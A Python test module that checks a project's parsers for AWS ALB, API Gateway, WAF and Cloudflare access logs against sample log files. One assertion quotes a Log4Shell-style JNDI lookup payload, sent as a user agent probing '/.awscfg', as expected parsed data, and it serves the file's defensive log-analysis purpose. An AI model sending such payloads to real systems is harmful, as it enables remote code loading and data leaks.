"""Run the cloud connectors over third-party ALB, API Gateway, WAF and Cloudflare logs.

The logs live outside the repository, in ``../shared/corpus`` (AWS
documentation examples, a real ALB capture and the fixtures of other log
parsers). The module is skipped when that directory is absent.
"""

from __future__ import annotations

from datetime import datetime

import polars as pl
import pytest

from gatewatch.connectors.aws_alb import AwsAlbConnector
from gatewatch.connectors.aws_apigateway import AwsApiGatewayConnector
from gatewatch.connectors.aws_waf import AwsWafConnector
from gatewatch.connectors.base import Connector
from gatewatch.connectors.cloudflare import CloudflareConnector
from linefeed import CORPUS, event_rows, frame_from_file

pytestmark = [
    pytest.mark.corpus,
    pytest.mark.skipif(not CORPUS.is_dir(), reason=f"corpus directory {CORPUS} not found"),
]

CONNECTORS: dict[str, type[Connector]] = {
    "aws_alb": AwsAlbConnector,
    "aws_apigateway": AwsApiGatewayConnector,
    "aws_waf": AwsWafConnector,
    "cloudflare": CloudflareConnector,
}


def corpus_files() -> list[str]:
    if not CORPUS.is_dir():
        return []
    return [
        f"{folder}/{path.name}"
        for folder in CONNECTORS
        if (CORPUS / folder).is_dir()
        for path in sorted((CORPUS / folder).iterdir())
    ]


def parse_file(name: str):
    frame = frame_from_file(CORPUS / name)
    connector = CONNECTORS[name.split("/", 1)[0]](fingerprint_key=b"corpus key")
    return frame, connector.parse(frame)


def rows_of(name: str) -> list[dict]:
    _, result = parse_file(name)
    return event_rows(result.events)


@pytest.mark.parametrize("name", corpus_files())
def test_cloud_corpus_every_line_accounted_for(name):
    frame, result = parse_file(name)
    offsets = sorted(result.events["offset"].to_list() + result.rejects["offset"].to_list())
    assert offsets == frame["offset"].to_list()
    assert result.rejects.filter(pl.col("reason").is_null() | (pl.col("reason") == "")).height == 0
    if name.endswith(".labels.jsonl"):
        # Test labels that ship next to the records, not log records.
        assert result.events.height == 0
        assert set(result.rejects["reason"]) == {result.rejects["reason"][0]}
        assert result.rejects["reason"][0].startswith("missing timestamp")
    else:
        assert result.rejects.height == 0, result.rejects.to_dicts()
        assert result.events["ts"].null_count() == 0


def test_cloud_corpus_alb_real_capture():
    rows = rows_of("aws_alb/elastic_beats__application-lb-http.log")
    assert len(rows) == 10
    first = rows[0]
    assert first["ts"] == datetime(2019, 10, 11, 15, 1, 12, 376735)
    assert first["client_ip"] == "77.227.156.41"
    assert first["extra"]["client_port"] == 56398
    assert first["status"] == 460
    assert first["duration_ms"] is None
    assert first["bytes_received"] == 125
    assert first["bytes_sent"] == 0
    assert first["host"] == "filebeat-aws-elb-test-12030537.eu-central-1.elb.amazonaws.com"
    assert first["path"] == "/"
    assert first["request_id"] == "Root=1-5da09932-2c342a443bfb96249aa50ed7"
    assert first["extra"]["target_port"] == "10.0.0.192:80"
    assert "target_status_code" not in first["extra"]
    assert [row["status"] for row in rows[1:7]] == [504] * 6
    last = rows[-1]
    assert last["status"] == 200
    assert last["extra"]["target_status_code"] == "200"
    assert last["duration_ms"] == pytest.approx(1.0)


def test_cloud_corpus_alb_doc_examples():
    rows = rows_of("aws_alb/awsdocs_alb_access_log_examples.log")
    assert [row["extra"]["type"] for row in rows] == ["http", "https", "h2", "ws", "wss", "http", "http"]
    https = rows[1]
    assert https["scheme"] == "https"
    assert https["host"] == "www.example.com"
    assert https["extra"]["ssl_protocol"] == "TLSv1.2"
    assert https["extra"]["actions_executed"] == "authenticate,forward"
    assert https["extra"]["chosen_cert_arn"].startswith("arn:aws:acm:us-east-2")
    assert rows[2]["http_version"] == "HTTP/2.0"
    assert rows[2]["extra"]["redirect_url"] == "https://example.com:80/"
    assert rows[3]["status"] == 101
    lambda_error = rows[6]
    assert lambda_error["status"] == 502
    assert lambda_error["extra"]["error_reason"] == "LambdaInvalidResponse"
    assert "target_port" not in lambda_error["extra"]


def test_cloud_corpus_alb_trailing_fields():
    rows = rows_of("aws_alb/crowdsec_hub__aws-alb-logs.log")
    rewritten = [row for row in rows if row["extra"].get("transformed_host")]
    assert [row["extra"]["transformed_host"] for row in rewritten] == ["m.example.com"]
    assert rewritten[0]["extra"]["request_transform_status"] == "TransformSuccess"
    assert rewritten[0]["extra"]["conn_trace_id"] == "TID_1234abcd5678ef90"
    probe = next(row for row in rows if row["user_agent"] == "${jndi:ldap://${java:version}.domain/a}")
    assert probe["path"] == "/.awscfg"
    assert probe["extra"]["actions_executed"] == "waf,fixed-response"


def test_cloud_corpus_waf_doc_examples():
    rows = rows_of("aws_waf/awsdocs_waf_logging_examples.jsonl")
    assert len(rows) == 6
    first = rows[0]
    assert first["ts"] == datetime(2019, 12, 13, 23, 40, 12, 771000)
    assert first["client_ip"] == "1.1.1.1"
    assert first["country"] == "AU"
    assert first["waf_action"] == "block"
    assert first["waf_rule_id"] == "STMTest_SQLi_XSS"
    assert first["waf_message"] == "SQL_INJECTION in HEADER"
    assert first["attack_class"] == "sqli"
    assert first["host"] == "localhost:1989"
    assert first["user_agent"] == "curl/7.61.1"
    assert rows[2]["waf_rule_id"] == "RG-Reference"
    assert rows[2]["attack_class"] == "xss"
    assert rows[1]["waf_action"] == "allow"
    captcha = rows[5]
    assert captcha["waf_action"] == "captcha"
    assert captcha["status"] == 405
    assert captcha["forwarded_for"] == "72.21.198.65"
    assert captcha["path"] == "/pen-test/pets"


def test_cloud_corpus_waf_cookie_not_stored():
    frame, result = parse_file("aws_waf/awsdocs_waf_logging_examples.jsonl")
    assert "aws-waf-token=" in "".join(frame["line"])
    assert "aws-waf-token=" not in result.events.write_json()


def test_cloud_corpus_cloudflare_timestamp_encodings():
    rows = rows_of("cloudflare/elastic_integrations__http_request.log")
    assert [row["ts"] for row in rows] == [datetime(2022, 5, 25, 13, 25, 26)] * 5
    rows = rows_of("cloudflare/elastic_integrations__firewall_event.log")
    assert [row["ts"] for row in rows[:3]] == [datetime(2022, 5, 31, 5, 23, 43)] * 3
    assert rows[0]["waf_action"] == "block"
    assert rows[0]["waf_rule_id"] == "7dc666e026974dab84884c73b3e2afe1"
    assert rows[0]["country"] == "US"
    assert rows[0]["asn"] == 15169
    assert rows[3]["ts"] == datetime(2024, 9, 11, 12, 57, 10)
    assert rows[3]["waf_action"] is None


def test_cloud_corpus_apigateway_records():
    rows = rows_of("aws_apigateway/elastic_integrations__apigateway-rest.log")
    assert [row["request_id"] for row in rows][:2] == [
        "48752d0f-c99d-4cfa-a5a7-f3c6834d19e5",
        "caa4a500-2651-4476-aa1f-a639b858819b",
    ]
    assert rows[0]["ts"] == datetime(2023, 6, 10, 15, 36, 28)
    assert rows[0]["status"] == 200
    assert rows[0]["bytes_sent"] == 184
    assert rows[3]["host"] == "asad15n3p0.execute-api.us-east-1.amazonaws.com"
    websocket = rows_of("aws_apigateway/elastic_integrations__apigateway-websocket.log")
    assert [row["status"] for row in websocket] == [500, 403, 500, 500]
